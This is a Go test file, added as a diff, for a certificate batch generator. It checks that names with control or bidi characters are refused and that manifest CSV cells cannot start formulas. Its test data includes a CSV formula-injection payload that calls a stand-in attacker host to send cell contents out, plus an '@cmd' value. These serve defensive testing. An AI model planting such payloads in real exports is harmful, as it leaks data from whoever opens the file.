@@ -1,0 +1,67 @@
+package certificate
+
+import (
+	"bytes"
+	"encoding/csv"
+	"strings"
+	"testing"
+
+	"github.com/vanban/vanban/internal/apperr"
+	"github.com/vanban/vanban/internal/award"
+)
+
+// Issue 10 item 8: control characters, line breaks and bidi overrides in a
+// batch are refused, naming the field, including names read from a
+// nominations file (which bypasses the JSON checks of the batch itself).
+func TestBatchRefusesControlAndBidiCharacters(t *testing.T) {
+	for _, bad := range []string{"A\r\nB", "A\tB", "A\u0001B", "A\u007fB", "A\u0085B", "A\u202eB", "A😀", "中文"} {
+		b := loadBatch(t)
+		b.Recipients[2].Name = bad
+		_, err := Generator{UUIDs: newSeeded()}.Prepare(b)
+		e := apperr.As(err)
+		if err == nil || e.Kind != apperr.Invalid {
+			t.Fatalf("%q: err = %v, want Invalid", bad, err)
+		}
+		ok := false
+		for _, p := range e.Problems {
+			ok = ok || (p.Field == "recipients[2].name" && (p.Code == "invalid_text" || p.Code == "unsupported_character"))
+		}
+		if !ok {
+			t.Errorf("%q: no problem at recipients[2].name: %v", bad, e.Problems)
+		}
+	}
+	b := loadBatch(t)
+	b.Decision.Signer.Name = "Nguyễn\u202eVăn"
+	if _, err := (Generator{UUIDs: newSeeded()}).Prepare(b); err == nil || !strings.Contains(err.Error(), "decision.signer.name") {
+		t.Errorf("bidi in signer: %v", err)
+	}
+	// é ü ñ ř keep working.
+	b = loadBatch(t)
+	b.Recipients[2].Name = "José Müller Muñoz Dvořák"
+	if _, err := (Generator{UUIDs: newSeeded()}).Prepare(b); err != nil {
+		t.Errorf("Latin accents refused: %v", err)
+	}
+}
+
+// Issue 10 item 9: a collective named "=HYPERLINK(…)" reaches manifest.csv
+// as text, never as a formula.
+func TestManifestNeutralisesFormulas(t *testing.T) {
+	var buf bytes.Buffer
+	name := `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
+	if err := WriteManifest(&buf, []Issued{{UUID: "u", Number: 1, Recipient: Recipient{Nomination: award.Nomination{Kind: award.Collective, Name: name}}, File: "001.pdf"},
+		{UUID: "v", Number: 2, Recipient: Recipient{Nomination: award.Nomination{Kind: award.Collective, Name: "@cmd"}}, File: "002.pdf"}}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range rows[1:] {
+		if c := r[1][0]; c == '=' || c == '@' || c == '+' || c == '-' {
+			t.Errorf("cell %q starts a formula", r[1])
+		}
+	}
+	if rows[1][1] != "'"+name {
+		t.Errorf("name = %q", rows[1][1])
+	}
+}
